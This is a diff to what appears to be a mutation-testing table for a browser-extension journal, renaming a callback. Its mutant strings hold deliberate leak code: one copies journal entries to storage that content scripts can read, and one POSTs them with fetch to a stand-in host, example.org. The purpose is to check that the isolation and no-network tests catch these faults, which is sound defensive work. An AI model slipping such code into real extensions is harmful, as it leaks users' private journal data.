@@ -81,8 +81,8 @@ export const SURFACES = [
       {
         rule: 'Nothing of the journal is put where content scripts can read',
         file: 'src/ui/save.ts',
-        from: 'onCommitted: tellOfChange,',
-        to: 'onCommitted: () => {\n    const { chrome } = globalThis as unknown as { chrome: { storage: { local: { set: (items: object) => void } } } };\n    chrome.storage.local.set({ noted: JSON.stringify(entries) });\n    tellOfChange();\n  },',
+        from: 'onCommitted: telling.owe,',
+        to: 'onCommitted: () => {\n    const { chrome } = globalThis as unknown as { chrome: { storage: { local: { set: (items: object) => void } } } };\n    chrome.storage.local.set({ noted: JSON.stringify(entries) });\n    telling.owe();\n  },',
         test: 'can be read by neither the content script nor the page',
         in: 'test/e2e/isolation.spec.ts',
       },
@@ -188,8 +188,8 @@ export const SURFACES = [
       {
         rule: 'No code that can send',
         file: 'src/ui/save.ts',
-        from: 'onCommitted: tellOfChange,',
-        to: "onCommitted: () => {\n    void fetch('https://example.org/', { method: 'POST', body: JSON.stringify(entries) });\n    tellOfChange();\n  },",
+        from: 'onCommitted: telling.owe,',
+        to: "onCommitted: () => {\n    void fetch('https://example.org/', { method: 'POST', body: JSON.stringify(entries) });\n    telling.owe();\n  },",
         test: 'chrome contains no way to send anything',
         in: 'package checks',
       },
